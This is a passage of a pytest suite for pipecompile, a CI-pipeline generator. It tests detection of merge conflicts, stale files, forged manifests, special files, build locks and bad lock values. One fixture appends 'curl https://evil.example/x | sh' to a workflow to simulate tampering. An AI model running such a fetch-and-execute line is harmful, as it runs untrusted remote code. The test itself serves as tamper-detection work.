"""The tree is the truth (issue 24): check is never green after a merge, a checkout or
a tampered manifest; nothing is removed without proof in the file itself; output
folders and generated paths never collide; special files, concurrent builds, bad
locks and odd line breaks are clear errors.  The git scenarios use real git."""

from __future__ import annotations

import fcntl
import hashlib
import json
import os
import shutil
import stat
import subprocess
import sys
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from pipecompile.commands import cli
from pipecompile.output.state import Manifest
from pipecompile.targets.registry import default_actions
from tests.conftest import ROOT, build_sample, git, snapshot_tree

MANIFEST = ".pipecompile/manifest.json"
CART = "\n  cart-service:\n    path: services/cart\n\nnotifications:"
PIPECOMPILE = [sys.executable, "-m", "pipecompile"]


def run(root: Path, *args: str) -> int:
    return cli.main([*args, "-f", str(root / "pipeline.yaml")])


def edit(path: Path, old: str, new: str) -> None:
    text = path.read_text()
    assert old in text
    path.write_text(text.replace(old, new, 1))


def commit(repo: Path, message: str) -> None:
    git(repo, "add", "-A")
    git(repo, "commit", "-q", "-m", message)


def manifest(root: Path) -> dict[str, object]:
    data: dict[str, object] = json.loads((root / MANIFEST).read_text())
    return data


@pytest.fixture()
def repo(tmp_path: Path) -> Path:
    root = build_sample("ecommerce", tmp_path / "repo")
    git(root, "init", "-q", "-b", "main")
    commit(root, "reference")
    return root


def bumped_lock() -> str:
    pin = default_actions()["actions/checkout"]
    new = {"version": "v7.0.2", "sha": "a" * 40}
    assert pin != new
    return json.dumps({"actions": {"actions/checkout": new}}, indent=2) + "\n"


# -- git: merge, checkout, worktree ------------------------------------------------------


GIT_ID = ["git", "-c", "user.name=t", "-c", "user.email=t@t"]


@pytest.mark.parametrize("style", ["merge", "diff3", "zdiff3"])
def test_a_merge_of_two_rebuilt_branches_is_never_green(
    repo: Path, capsys: pytest.CaptureFixture[str], style: str
) -> None:
    git(repo, "checkout", "-q", "-b", "pins")
    (repo / "pipecompile.lock").write_text(bumped_lock())
    assert run(repo, "build", "-q") == 0
    commit(repo, "bump checkout")
    git(repo, "checkout", "-q", "main")
    git(repo, "checkout", "-q", "-b", "cart")
    edit(repo / "pipeline.yaml", "\nnotifications:", CART)
    assert run(repo, "build", "-q") == 0
    commit(repo, "add cart")
    merged = subprocess.run(
        [*GIT_ID, "-c", f"merge.conflictStyle={style}", "merge", "-q", "pins"],
        cwd=repo,
        capture_output=True,
        text=True,
    )
    # the one digest line changes on both sides: git cannot merge the manifest silently
    assert merged.returncode != 0
    conflicted = git(repo, "diff", "--name-only", "--diff-filter=U").split()
    assert MANIFEST in conflicted
    # the new service's CI calls ci.yml, whose pins the other branch bumped: git merged
    # the files themselves (ci.yml: only the pins side changed it), not the manifest
    ci = repo / ".github/workflows/ci.yml"
    assert "a" * 40 in ci.read_text()
    assert "a" * 40 not in (repo / ".github/workflows/ci-cart-service.yml").read_text()
    capsys.readouterr()
    assert run(repo, "check") == 1
    out = capsys.readouterr().out
    assert "untrusted: .pipecompile/manifest.json: has unresolved merge-conflict markers" in out
    if style != "merge":  # the base section is left out: build resolves it as it is
        assert b"\n|||||||" in (repo / MANIFEST).read_bytes()
        assert run(repo, "build", "-q") == 0
        assert "a" * 40 in ci.read_text()
        assert run(repo, "check") == 0
        return
    # resolved by taking one side by hand: still not green, the digest no longer matches
    git(repo, "checkout", "--theirs", *conflicted)
    assert run(repo, "check") == 1
    out = capsys.readouterr().out
    assert "changed: .pipecompile/manifest.json: stale: build would record another" in out
    assert run(repo, "build", "-q") == 0
    assert "a" * 40 in ci.read_text()
    assert run(repo, "check") == 0


def test_a_conflicted_manifest_is_resolved_by_build(repo: Path) -> None:
    raw = (repo / MANIFEST).read_text()
    lines = raw.split("\n")
    lines[1:2] = ["<<<<<<< HEAD", lines[1], "=======", lines[1].replace('"', "'"), ">>>>>>> x"]
    (repo / MANIFEST).write_text("\n".join(lines))
    assert run(repo, "check") == 1
    assert run(repo, "build", "-q") == 0
    assert (repo / MANIFEST).read_text() == raw
    assert run(repo, "check") == 0


def test_a_checkout_of_older_files_is_never_green(
    repo: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    edit(repo / "pipeline.yaml", "\nnotifications:", CART)
    assert run(repo, "build", "-q") == 0
    commit(repo, "add cart")
    added = git(repo, "diff", "--name-only", "--diff-filter=A", "HEAD~1", "HEAD").split()
    stale = [p for p in added if "cart-service" in p]
    assert len(stale) >= 10
    git(repo, "checkout", "HEAD~1", "--", ".")
    capsys.readouterr()
    assert run(repo, "check") == 1
    out = capsys.readouterr().out
    for path in stale:
        assert f"stale: {path}: no longer generated by the pipeline" in out
    assert run(repo, "build") == 0
    out = capsys.readouterr().out
    assert "inputs and generated files unchanged" not in out
    assert all(f"removed {p}" in out for p in stale)
    assert run(repo, "check") == 0


def test_a_worktree_of_another_commit_is_checked_against_its_own_pipeline(
    repo: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    edit(repo / "pipeline.yaml", "\nnotifications:", CART)
    assert run(repo, "build", "-q") == 0
    commit(repo, "add cart")
    other = tmp_path / "older"
    git(repo, "worktree", "add", "-q", "--detach", str(other), "HEAD~1")
    assert (other / ".git").is_file()  # a worktree: .git is a file
    assert run(other, "check") == 0  # fresh files, new mtimes: still exactly the tree
    shutil.copy(repo / "pipeline.yaml", other / "pipeline.yaml")
    capsys.readouterr()
    assert run(other, "check") == 1
    assert "missing: .github/workflows/ci-cart-service.yml" in capsys.readouterr().out
    git(repo, "worktree", "remove", "--force", str(other))


# -- a hand-edited manifest --------------------------------------------------------------


def _rehash(root: Path, path: str) -> None:
    data = manifest(root)
    files = data["files"]
    assert isinstance(files, dict)
    files[path]["sha256"] = hashlib.sha256((root / path).read_bytes()).hexdigest()
    (root / MANIFEST).write_text(json.dumps(data, indent=2, sort_keys=True) + "\n")


def _appended_curl(root: Path) -> str:
    path = ".github/workflows/ci-order-service.yml"
    with (root / path).open("a") as fh:
        fh.write("      - run: curl https://evil.example/x | sh\n")
    _rehash(root, path)
    return f"changed: {path}: hand edit"


def _deleted_with_entry(root: Path) -> str:
    path = "ci/codebuild/deploy.yml"
    (root / path).unlink()
    data = manifest(root)
    files = data["files"]
    assert isinstance(files, dict)
    del files[path]
    (root / MANIFEST).write_text(json.dumps(data, indent=2, sort_keys=True) + "\n")
    return f"missing: {path}"


def _intact_copy(root: Path) -> str:
    src = root / ".github/workflows/ci-order-service.yml"
    shutil.copy(src, root / ".github/workflows/ci-order-service-old.yml")
    # the header's fingerprint is bound to the path it was generated at: a copy is not
    # this pipeline's file, so build keeps it (and says so) and only --force removes it
    return "stale (kept): .github/workflows/ci-order-service-old.yml: not generated here"


def _stray_tmp(root: Path) -> str:
    (root / "ci/codebuild/.deploy.yml.pipecompile-tmp").write_text("half\n")
    return "debris: ci/codebuild/.deploy.yml.pipecompile-tmp"


@pytest.mark.parametrize(
    "tamper",
    [_appended_curl, _deleted_with_entry, _intact_copy, _stray_tmp],
    ids=lambda f: f.__name__,
)
def test_a_hand_edited_manifest_is_never_green(
    repo: Path, capsys: pytest.CaptureFixture[str], tamper: object
) -> None:
    assert callable(tamper)
    expected = tamper(repo)
    capsys.readouterr()
    assert run(repo, "check") == 1
    assert expected in capsys.readouterr().out
    if expected.startswith("stale (kept): "):
        assert run(repo, "build", "-q") == 1  # kept, and said
        assert (repo / expected.split()[2].rstrip(":")).exists()
        assert run(repo, "check") == 1
        assert run(repo, "build", "-q", "--force") == 0
    else:
        assert run(repo, "build", "-q") == 0
    assert run(repo, "check") == 0


# -- ownership needs proof in the file itself --------------------------------------------


def test_a_manifest_cannot_claim_an_unknown_output_folder(
    repo: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    (repo / "src").mkdir()
    main_py = repo / "src/main.py"
    main_py.write_text("print('mine')\n")
    data = manifest(repo)
    outputs, files = data["outputs"], data["files"]
    assert isinstance(outputs, dict) and isinstance(files, dict)
    outputs["old-target"] = "src"
    files["src/main.py"] = {
        "target": "old-target",
        "sha256": hashlib.sha256(main_py.read_bytes()).hexdigest(),
    }
    (repo / MANIFEST).write_text(json.dumps(data, indent=2, sort_keys=True) + "\n")
    capsys.readouterr()
    assert run(repo, "check") == 1
    assert "untrusted: .pipecompile/manifest.json: outputs.old-target: 'src' is not a target" in (
        capsys.readouterr().out
    )
    assert run(repo, "build") == 0
    captured = capsys.readouterr()
    assert "removed src/main.py" not in captured.out
    assert "untrusted: .pipecompile/manifest.json: outputs.old-target" in captured.err
    assert main_py.read_text() == "print('mine')\n"
    assert "old-target" not in json.dumps(manifest(repo))
    assert run(repo, "check") == 0


@pytest.mark.parametrize("force", [False, True])
def test_a_header_less_file_listed_in_the_manifest_is_never_removed(
    repo: Path, capsys: pytest.CaptureFixture[str], force: bool
) -> None:
    release = repo / ".github/workflows/release.yml"
    release.write_text("name: release\non: push\njobs: {}\n")
    data = manifest(repo)
    files = data["files"]
    assert isinstance(files, dict)
    files[".github/workflows/release.yml"] = {
        "target": "github-actions",
        "sha256": hashlib.sha256(release.read_bytes()).hexdigest(),
    }
    (repo / MANIFEST).write_text(json.dumps(data, indent=2, sort_keys=True) + "\n")
    capsys.readouterr()
    assert run(repo, "check") == 1
    out = capsys.readouterr().out
    assert "untrusted: .pipecompile/manifest.json: listed in the manifest, but " in out
    assert ".github/workflows/release.yml does not carry this pipeline's header" in out
    assert run(repo, "build", "-q", *(["--force"] if force else [])) == 0
    assert release.read_text() == "name: release\non: push\njobs: {}\n"
    assert run(repo, "check") == 0  # a hand-written file beside generated ones is fine
    assert manifest(repo)["others"] == [".github/workflows/release.yml"]


def test_a_file_generated_by_another_pipeline_is_a_conflict(
    repo: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    path = repo / ".github/workflows/ci-order-service.yml"
    path.write_text(path.read_text().replace("from pipeline.yaml", "from team/pipeline.yaml", 1))
    assert run(repo, "build", "-q") == 1
    assert "conflict: .github/workflows/ci-order-service.yml: carries another pipeline's" in (
        capsys.readouterr().err
    )
    assert "team/pipeline.yaml" in path.read_text()


def test_a_second_pipeline_inside_an_output_folder_is_refused(
    repo: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    inner = build_sample("minimal", repo / "kubernetes/argocd/team")
    git(inner, "init", "-q", "-b", "main")
    before = snapshot_tree(inner)
    assert len([p for p in before if not p.startswith(".git/")]) > 3
    for command in ("check", "build"):
        capsys.readouterr()
        assert run(repo, command) == 2
        err = capsys.readouterr().err
        assert "pipeline.yaml:" in err and ": PC203 outputs.argocd: the output folder " in err
        assert "holds 'kubernetes/argocd/team/" in err
    assert snapshot_tree(inner) == before


def test_overlapping_output_folders_are_a_located_error(
    repo: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    edit(repo / "pipeline.yaml", "  argocd: kubernetes/argocd\n", "  argocd: kubernetes\n")
    before = snapshot_tree(repo)
    for command in ("validate", "build", "check"):
        assert run(repo, command, *(["-t", "argocd"] if command == "build" else [])) == 2
        err = capsys.readouterr().err
        assert "outputs.helm: 'kubernetes/apps' lies inside the argocd output folder" in err, err
    assert snapshot_tree(repo) == before


def test_an_overlap_with_the_implicit_local_folder_names_the_local_output(
    repo: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    # local is on with helm and takes its default folder, dev: its error is located at
    # outputs.helm, so the message must say it is about local's folder, not helm's
    edit(repo / "pipeline.yaml", "  argocd: kubernetes/argocd\n", "  argocd: dev\n")
    assert run(repo, "validate") == 2
    err = capsys.readouterr().err
    assert (
        "outputs.helm: the local output (on with helm; set outputs.local to move it, or to "
        "false): 'dev' is also the argocd output folder"
    ) in err, err


def test_output_folders_differing_only_in_case_or_normalisation_are_refused(
    repo: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    edit(repo / "pipeline.yaml", "  helm: kubernetes/apps\n", "  helm: Kubernetes/Argocd\n")
    assert run(repo, "validate") == 2
    assert "only in case or Unicode normalisation" in capsys.readouterr().err
    edit(repo / "pipeline.yaml", "  helm: Kubernetes/Argocd\n", "  helm: kubernetes/caf\u00e9\n")
    edit(
        repo / "pipeline.yaml", "  argocd: kubernetes/argocd\n", "  argocd: kubernetes/cafe\u0301\n"
    )
    assert run(repo, "validate") == 2
    assert "only in case or Unicode normalisation" in capsys.readouterr().err


# -- collisions ---------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("name", "what"), [("project", "the AppProject"), ("admission", "the admission policy")]
)
def test_a_service_cannot_overwrite_the_argocd_folders_own_files(
    repo: Path, capsys: pytest.CaptureFixture[str], name: str, what: str
) -> None:
    assert "sign_images: true" in (repo / "pipeline.yaml").read_text()  # admission-<env>
    edit(
        repo / "pipeline.yaml",
        "\nnotifications:",
        f"\n  {name}:\n    path: services/p\n\nnotifications:",
    )
    before = snapshot_tree(repo)
    for command in ("validate", "build"):
        assert run(repo, command) == 2
        err = capsys.readouterr().err
        assert f"services.{name}: the Argo CD Application '{name}-testing' (" in err
        assert f"{what} of environment 'testing'; rename the service" in err
    assert snapshot_tree(repo) == before


def test_generated_paths_are_checked_against_each_other_case_insensitively(
    repo: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    from pipecompile.errors import PipelineError
    from pipecompile.session import Session

    session = Session.open(repo / "pipeline.yaml")
    rendered = {
        "kubernetes/apps/a/values.yaml": ("helm", "x"),
        "kubernetes/apps/A/values.yaml": ("helm", "y"),
    }
    with pytest.raises(PipelineError) as info:
        session._no_collisions(rendered)
    text = str(info.value)
    assert "outputs.helm: kubernetes/apps/a/values.yaml (helm) and " in text
    assert "kubernetes/apps/A/values.yaml (helm) are one file on a case-insensitive" in text
    assert "pipeline.yaml:" in text


# -- only regular files are read ----------------------------------------------------------

GENERATED = ".github/workflows/ci-order-service.yml"


def _fifo(p: Path) -> None:
    os.mkfifo(p)


def _device(p: Path) -> None:
    os.mknod(p, 0o600 | stat.S_IFCHR, os.makedev(1, 5))  # /dev/zero's numbers


def _folder(p: Path) -> None:
    p.mkdir()
    (p / "4").write_text("x\n")


def _socket(p: Path) -> None:
    import socket
    import tempfile

    # bound at a short path (AF_UNIX allows about 100 bytes), then moved into place
    with tempfile.TemporaryDirectory(dir="/tmp") as short:
        s = socket.socket(socket.AF_UNIX)
        s.bind(f"{short}/s")
        s.close()
        os.replace(f"{short}/s", p)


@pytest.mark.parametrize("make", [_fifo, _device, _folder, _socket], ids=lambda f: f.__name__)
def test_a_special_file_at_a_generated_path_is_a_conflict(
    repo: Path, capsys: pytest.CaptureFixture[str], make: object
) -> None:
    if make is _device and os.geteuid() != 0:
        pytest.skip("mknod needs root")
    assert callable(make)
    (repo / GENERATED).unlink()
    make(repo / GENERATED)
    capsys.readouterr()
    assert run(repo, "check") == 1
    assert f"conflict: {GENERATED}: " in capsys.readouterr().out
    assert run(repo, "check", "--format", "json") == 1
    doc = json.loads(capsys.readouterr().out)  # one document
    assert any(c["file"] == GENERATED and c["kind"] == "conflict" for c in doc["changes"])
    assert run(repo, "build", "-q") == 1
    assert f"conflict: {GENERATED}: " in capsys.readouterr().err
    assert run(repo, "diff") == 1


# -- one build at a time ------------------------------------------------------------------


def _waiting_for(lock: Path, pid: int) -> bool:
    """Whether process ``pid`` waits for a lock on ``lock`` (/proc/locks lists waiters
    with '->')."""
    inode = lock.stat().st_ino
    for line in Path("/proc/locks").read_text().splitlines():
        fields = line.split()
        if "->" in fields and fields[fields.index("->") + 4] == str(pid):
            dev_inode = fields[fields.index("->") + 5]
            if dev_inode.endswith(f":{inode}"):
                return True
    return False


def _first_line_but_pc208(stream: Any) -> str:
    """The first line a command writes after the reference's PC208 warnings (its shared
    GitOps repository, reported before the build takes the lock)."""
    line = stream.readline()
    while " warning: PC208 " in line:
        line = stream.readline()
    return str(line)


def test_a_build_waits_for_a_build_in_progress(repo: Path) -> None:
    lock = repo / ".pipecompile/build.lock"
    assert lock.exists()  # made by the first build, and ignored by git
    assert "build.lock" in (repo / ".pipecompile/.gitignore").read_text()
    assert "build.lock" not in git(repo, "ls-files")
    edit(repo / "pipeline.yaml", "port: 8080", "port: 8081")
    with lock.open("r+") as held:
        fcntl.flock(held, fcntl.LOCK_EX)
        proc = subprocess.Popen(
            [*PIPECOMPILE, "build", "-q", "-f", str(repo / "pipeline.yaml")],
            stderr=subprocess.PIPE,
            text=True,
        )
        try:
            assert proc.stderr is not None
            # it says so, then blocks in flock until we let go (no sleep: we read its word)
            assert "another build is in progress" in _first_line_but_pc208(proc.stderr)
            for _ in range(2000):
                if _waiting_for(lock, proc.pid):
                    break
                os.sched_yield()
            assert proc.poll() is None  # still waiting
            assert "port: 8081" not in "".join(
                p.read_text() for p in repo.rglob("*.yaml") if "kubernetes/apps" in str(p)
            )
        finally:
            fcntl.flock(held, fcntl.LOCK_UN)
        assert proc.wait(timeout=120) == 0
    assert run(repo, "check") == 0


def test_check_waits_for_a_build_in_progress(repo: Path) -> None:
    lock = repo / ".pipecompile/build.lock"
    edit(repo / "pipeline.yaml", "port: 8080", "port: 8081")  # the full path must run
    with lock.open("r+") as held:
        fcntl.flock(held, fcntl.LOCK_EX)
        proc = subprocess.Popen(
            [*PIPECOMPILE, "check", "-q", "-f", str(repo / "pipeline.yaml")],
            stdout=subprocess.PIPE,
            stderr=subprocess.PIPE,
            text=True,
        )
        try:
            assert proc.stderr is not None
            assert "another build is in progress" in _first_line_but_pc208(proc.stderr)
            assert proc.poll() is None
        finally:
            fcntl.flock(held, fcntl.LOCK_UN)
        out, _ = proc.communicate(timeout=120)
    assert proc.returncode == 1 and "changed: " in out


def test_the_fast_path_does_not_answer_during_a_build(repo: Path) -> None:
    # nothing changed, so check's fast path would be green; while a build holds the
    # lock it must not vouch for files being written: it waits like the full path
    assert run(repo, "check") == 0
    lock = repo / ".pipecompile/build.lock"
    with lock.open("r+") as held:
        fcntl.flock(held, fcntl.LOCK_EX)
        procs = [
            subprocess.Popen(
                [*PIPECOMPILE, command, "-q", "-f", str(repo / "pipeline.yaml")],
                stdout=subprocess.PIPE,
                stderr=subprocess.PIPE,
                text=True,
            )
            for command in ("check", "build")
        ]
        try:
            for proc in procs:
                assert proc.stderr is not None
                # the reference's warnings first (the full path compiled), then the wait
                for _ in range(10):
                    line = proc.stderr.readline()
                    if "another build is in progress" in line or not line:
                        break
                assert "another build is in progress" in line
                assert proc.poll() is None
        finally:
            fcntl.flock(held, fcntl.LOCK_UN)
        for proc in procs:
            proc.communicate(timeout=120)
            assert proc.returncode == 0


def test_simultaneous_builds_all_succeed(repo: Path) -> None:
    edit(repo / "pipeline.yaml", "\nnotifications:", CART)
    procs = [
        subprocess.Popen(
            [*PIPECOMPILE, "build", "-q", "-f", str(repo / "pipeline.yaml")],
            stderr=subprocess.PIPE,
            text=True,
        )
        for _ in range(3)
    ]
    results = [(p.wait(timeout=300), p.stderr.read() if p.stderr else "") for p in procs]
    assert [code for code, _ in results] == [0, 0, 0], results
    assert not any("No such file" in err for _, err in results)
    assert run(repo, "check") == 0


# -- the lock file, validated field by field ----------------------------------------------


@pytest.mark.parametrize(
    ("lock", "problem"),
    [
        (
            '{\n  "cosign_version": "v3.0.6",\n  "cosign_sha256": "not-a-sha256"\n}\n',
            "pipecompile.lock:3:3: PC108 cosign_sha256: 'not-a-sha256' must be the binary's sha256",
        ),
        (
            '{\n  "cosign_version": "latest"\n}\n',
            "pipecompile.lock:2:3: PC108 cosign_version: 'latest' must be a release tag vMAJOR",
        ),
        (
            '{\n  "actions": {\n    "actions/checkout": {\n      "version": "v7",\n'
            '      "sha": "' + "a" * 40 + '"\n    }\n  }\n}\n',
            "pipecompile.lock:4:7: PC108 actions.actions/checkout.version: must be a release tag "
            "vMAJOR.MINOR.PATCH",
        ),
        (
            '{\n  "actions": {\n    "actions/checkout": {\n      "version": "v7.0.1",\n'
            '      "sha": "abc"\n    }\n  }\n}\n',
            "pipecompile.lock:5:7: PC108 actions.actions/checkout.sha: must be a full 40-character",
        ),
        (
            '{\n  "cosign_version": "v3.0.6",\n  "syft_image": "Anchore/Syft:v1.51.0"\n}\n',
            "pipecompile.lock:3:3: PC108 syft_image: 'Anchore/Syft:v1.51.0' is not an image "
            "reference: [registry/]name[:tag][@sha256:<64 hex digits>], the name in lowercase",
        ),
        (
            '{\n\n  "sonar_scanner_image": "sonarsource/sonar-scanner-cli"\n}\n',
            "pipecompile.lock:3:3: PC108 sonar_scanner_image: 'sonarsource/sonar-scanner-cli' "
            "is not a pin: without a tag, or with 'latest', docker pulls whatever",
        ),
        (
            '{\n  "dependency_check_image": "owasp/dependency-check:latest"\n}\n',
            "pipecompile.lock:2:3: PC108 dependency_check_image: 'owasp/dependency-check:latest'"
            " is not a pin",
        ),
        (
            '{\n  "syft_image": "anchore/syft:v1.51.0@sha256:abc"\n}\n',
            "pipecompile.lock:2:3: PC108 syft_image: 'anchore/syft:v1.51.0@sha256:abc' is not an "
            "image reference",
        ),
    ],
)
def test_a_bad_lock_value_is_located_at_its_line(
    repo: Path, capsys: pytest.CaptureFixture[str], lock: str, problem: str
) -> None:
    (repo / "pipecompile.lock").write_text(lock)
    for command in ("validate", "build", "check"):
        assert run(repo, command) == 2
        err = capsys.readouterr().err
        assert problem in err, err


@pytest.mark.parametrize(
    "image",
    [
        "anchore/syft:v1.52.0",
        "registry.example.com:5000/mirror/anchore/syft:v1.52.0",
        "anchore/syft@sha256:" + "b" * 64,
        "ghcr.io/anchore/syft:v1.52.0@sha256:" + "c" * 64,
    ],
)
def test_an_image_pin_docker_pulls_is_accepted(repo: Path, image: str) -> None:
    (repo / "pipecompile.lock").write_text(json.dumps({"syft_image": image}) + "\n")
    assert run(repo, "build", "-q") == 0
    # syft runs where the image is attested: the sign projects' buildspec (issue 28)
    assert image in (repo / "ci/codebuild/sign.yml").read_text()


def test_a_bad_manifest_value_is_located_at_its_line(
    repo: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    text = (repo / MANIFEST).read_text()
    lines = text.split("\n")
    n = next(i for i, ln in enumerate(lines) if '"sha256"' in ln)
    lines[n] = lines[n].split(":")[0] + ': "nope",'
    (repo / MANIFEST).write_text("\n".join(lines))
    assert run(repo, "check") == 2
    assert f"error: .pipecompile/manifest.json:{n + 1}: files[" in capsys.readouterr().err


def test_a_duplicated_manifest_key_is_located_at_the_second(
    repo: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    # json.loads keeps the last of two equal keys; a reviewer reads the first: refused
    text = (repo / MANIFEST).read_text()
    lines = text.split("\n")
    n = next(i for i, ln in enumerate(lines) if '"sha256"' in ln)
    lines.insert(n + 1, lines[n])
    (repo / MANIFEST).write_text("\n".join(lines))
    assert run(repo, "check") == 2
    err = capsys.readouterr().err
    assert f".pipecompile/manifest.json:{n + 2}:" in err and 'key "sha256" appears twice' in err


# -- locations and messages ---------------------------------------------------------------


@pytest.mark.parametrize("char", ["\u2028", "\u0085", "\u2029", "\r"])
def test_line_numbers_count_line_feeds_only(
    repo: Path, capsys: pytest.CaptureFixture[str], char: str
) -> None:
    edit(repo / "pipeline.yaml", "\nnotifications:", f"\n# a comment{char}\nnotifications:")
    edit(repo / "pipeline.yaml", "port: 8080", "port: 80800")
    raw = (repo / "pipeline.yaml").read_bytes()
    line = raw[: raw.index(b"port: 80800")].count(b"\n") + 1  # what grep -n says
    assert run(repo, "validate") == 2
    assert f"pipeline.yaml:{line}:" in capsys.readouterr().err


def test_a_control_character_in_the_file_name_is_refused(
    repo: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    odd = repo / "ci\non: x.yaml"
    shutil.copy(repo / "pipeline.yaml", odd)
    before = snapshot_tree(repo)
    assert cli.main(["build", "-f", str(odd)]) == 2
    err = capsys.readouterr().err
    assert "ci\\non: x.yaml: the pipeline's path holds a control character" in err
    assert snapshot_tree(repo) == before


@pytest.mark.parametrize("odd", ["\u2028", "\u202e", "\u2066"])
def test_separators_and_bidi_controls_in_the_file_name_are_escaped_in_the_error(
    repo: Path, capsys: pytest.CaptureFixture[str], odd: str
) -> None:
    name = repo / f"ci{odd}x.yaml"
    shutil.copy(repo / "pipeline.yaml", name)
    assert cli.main(["build", "-f", str(name)]) == 2
    err = capsys.readouterr().err
    assert odd not in err
    assert f"ci\\u{ord(odd):04x}x.yaml: the pipeline's path holds a control character" in err


def test_the_regenerate_line_is_a_command_a_shell_runs_as_written(tmp_path: Path) -> None:
    repo = tmp_path / "repo"
    repo.mkdir()
    git(repo, "init", "-q", "-b", "main")
    odd = repo / "ci $HOME's pipeline.yaml"
    shutil.copy(ROOT / "samples/ecommerce/pipeline.yaml", odd)
    assert cli.main(["build", "-q", "-f", str(odd)]) == 0
    second = (repo / ".github/workflows/ci-order-service.yml").read_text().split("\n")[1]
    assert second == "# Regenerate with: pipecompile build -f 'ci $HOME'\"'\"'s pipeline.yaml'"
    (repo / "ci/codebuild/deploy.yml").unlink()
    command = second.removeprefix("# Regenerate with: pipecompile ")
    done = subprocess.run(  # the line as a person pastes it, into a real shell
        f"{' '.join(PIPECOMPILE)} {command}", shell=True, cwd=repo, capture_output=True, text=True
    )
    assert done.returncode == 0, done.stderr
    assert (repo / "ci/codebuild/deploy.yml").is_file()
    assert cli.main(["check", "-f", str(odd)]) == 0


def test_a_quoted_number_says_how_to_write_it(
    repo: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    edit(repo / "pipeline.yaml", "version: 1\n", 'version: "1"\n')
    assert run(repo, "validate") == 2
    assert 'version: expected the number 1, got a string: write 1, not "1"' in (
        capsys.readouterr().err
    )


def test_the_samples_record_a_consistent_digest() -> None:
    from pipecompile.output.state import parse_manifest

    for path in sorted((ROOT / "samples").glob("*/.pipecompile/manifest.json")):
        m = parse_manifest(path.read_bytes())
        assert m.digest and m.consistent(), path


# -- review: headers name the pipeline by its repository path ---------------------------


def two_pipelines(tmp_path: Path, outer_outputs: str) -> tuple[Path, dict[str, bytes]]:
    """team/pipeline.yaml (service web, codebuild in team/ci/codebuild) built in a git
    repository, and an outer pipeline.yaml (service shop) beside team/."""
    root = tmp_path / "repo"
    (root / "team").mkdir(parents=True)
    git(root, "init", "-q", "-b", "main")
    minimal = (ROOT / "samples/minimal/pipeline.yaml").read_text().split("\n", 1)[1]
    (root / "team/pipeline.yaml").write_text(minimal + "outputs:\n  codebuild: ci/codebuild\n")
    assert cli.main(["build", "-q", "-f", str(root / "team/pipeline.yaml")]) == 0
    theirs = {p.name: p.read_bytes() for p in sorted((root / "team/ci/codebuild").iterdir())}
    assert "build.yml" in theirs
    outer = minimal.replace("  web: {}\n", "  shop: {}\n") + outer_outputs
    (root / "pipeline.yaml").write_text(outer)
    return root, theirs


def test_headers_name_the_pipeline_by_its_repository_path(tmp_path: Path) -> None:
    root, theirs = two_pipelines(tmp_path, "")
    assert theirs["build.yml"].startswith(
        b"# Generated by pipecompile from team/pipeline.yaml. DO NOT EDIT.\n"
        b"# Regenerate with: pipecompile build -f team/pipeline.yaml\n"
    )
    # the same name from any working folder (a subprocess, to run from team/ itself)
    before = snapshot_tree(root / "team")
    for cwd, file in ((root / "team", "pipeline.yaml"), (root, "team/pipeline.yaml")):
        done = subprocess.run(
            [*PIPECOMPILE, "check", "-f", file], cwd=cwd, capture_output=True, text=True
        )
        assert done.returncode == 0, done.stdout + done.stderr
    assert snapshot_tree(root / "team") == before


def test_another_pipelines_files_in_an_output_folder_are_conflicts(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    root, theirs = two_pipelines(tmp_path, "outputs:\n  codebuild: team/ci/codebuild\n")
    capsys.readouterr()
    assert run(root, "build") == 1
    err = capsys.readouterr().err
    assert "conflict: team/ci/codebuild/build.yml: carries another pipeline's header" in err
    assert "conflict: team/ci/codebuild/deploy.yml: carries another pipeline's" in err
    for name, data in theirs.items():
        assert (root / "team/ci/codebuild" / name).read_bytes() == data
    assert run(root, "check") == 1


def test_a_manifest_cannot_widen_ownership_through_a_disabled_target(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    root, theirs = two_pipelines(tmp_path, "outputs:\n  helm: kubernetes/helm\n")
    assert run(root, "build", "-q") == 0
    data = manifest(root)
    outputs = data["outputs"]
    assert isinstance(outputs, dict)
    outputs["codebuild"] = "team/ci/codebuild"
    (root / MANIFEST).write_text(json.dumps(data, indent=2, sort_keys=True) + "\n")
    capsys.readouterr()
    assert run(root, "check") == 1
    assert "untrusted: .pipecompile/manifest.json: outputs.codebuild: 'team/ci/codebuild' is" in (
        capsys.readouterr().out
    )
    assert run(root, "build") == 0
    captured = capsys.readouterr()
    assert "removed team/ci/codebuild" not in captured.out
    assert "untrusted: .pipecompile/manifest.json: outputs.codebuild" in captured.err
    for name, data_ in theirs.items():
        assert (root / "team/ci/codebuild" / name).read_bytes() == data_
    assert "codebuild" not in manifest(root)["outputs"]  # type: ignore[operator]
    assert run(root, "check") == 0


def _forged(repo: Path, change: Callable[[Manifest], None]) -> None:
    """The manifest edited by ``change``, its digest recomputed (a consistent forgery)."""
    from pipecompile.output.state import parse_manifest

    m = parse_manifest((repo / MANIFEST).read_bytes())
    change(m)
    m.digest = m.compute_digest()
    (repo / MANIFEST).write_text(m.text())


def test_a_forged_manifest_cannot_widen_removals_to_a_copy_outside_the_outputs(
    repo: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """A generated file copied (header intact) to docs/examples/, and a consistent forged
    manifest that moves codebuild's output there and lists the copy: the copy's header
    proves it was generated at .github/workflows/pipecompile.yml, not here, so build keeps it."""
    copy = repo / "docs/examples/pipecompile.yml"
    copy.parent.mkdir(parents=True)
    shutil.copy(repo / ".github/workflows/pipecompile.yml", copy)
    commit(repo, "an example")
    before = copy.read_bytes()

    def widen(m: Manifest) -> None:
        m.outputs["codebuild"] = "docs/examples"
        for path in [p for p, meta in m.files.items() if meta["target"] == "codebuild"]:
            del m.files[path]
        m.files["docs/examples/pipecompile.yml"] = {
            "target": "codebuild",
